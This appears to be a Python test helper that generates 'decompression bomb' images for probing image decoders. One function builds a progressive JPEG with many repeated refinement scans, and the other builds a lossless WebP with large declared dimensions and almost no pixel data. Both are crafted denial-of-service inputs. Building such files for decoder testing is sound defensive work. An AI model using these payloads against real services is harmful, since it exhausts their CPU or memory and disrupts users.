"""Small files that cost much to decode."""

import io
import struct

from PIL import Image


def scan_bomb(side: int, scans: int) -> bytes:
    """Returns a progressive JPEG whose last scan, which refines nothing, comes `scans` times."""
    file = io.BytesIO()
    Image.new("L", (side, side), 90).save(file, "JPEG", progressive=True)
    symbols = bytes(run << 4 for run in range(15))  # a run of 2 ** n blocks without a change
    table = _segment(0xC4, b"\x10" + bytes([0, 0, 0, len(symbols)]) + bytes(12) + symbols)
    header = _segment(0xDA, bytes([1, 1, 0, 1, 63, 0x10]))  # one more bit of coefficients 1 to 63
    bits, blocks = "", (-(-side // 8)) ** 2
    while blocks:
        power = min(blocks.bit_length() - 1, 14)
        count = min(blocks, 2 ** (power + 1) - 1)
        bits += f"{power:04b}" + (f"{count - 2**power:0{power}b}" if power else "")
        blocks -= count
    bits += "1" * (-len(bits) % 8)
    data = int(bits, 2).to_bytes(len(bits) // 8, "big").replace(b"\xff", b"\xff\0")
    return file.getvalue()[:-2] + (table + header + data) * scans + b"\xff\xd9"


def webp_bomb(width: int, height: int) -> bytes:
    """Returns a lossless WebP of one colour, which has no bit for a pixel."""
    size = f"{width - 1:014b}"[::-1] + f"{height - 1:014b}"[::-1] + "0000"  # no alpha, version 0
    bits = size + "000" + 5 * "1000"  # no transform, cache, group; five codes of one symbol
    number = int(bits[::-1], 2)
    data = b"\x2f" + number.to_bytes(-(-len(bits) // 8), "little")
    data += bytes(len(data) % 2)
    chunk = b"WEBPVP8L" + struct.pack("<I", len(data)) + data
    return b"RIFF" + struct.pack("<I", len(chunk)) + chunk


def _segment(marker: int, content: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(content) + 2) + content
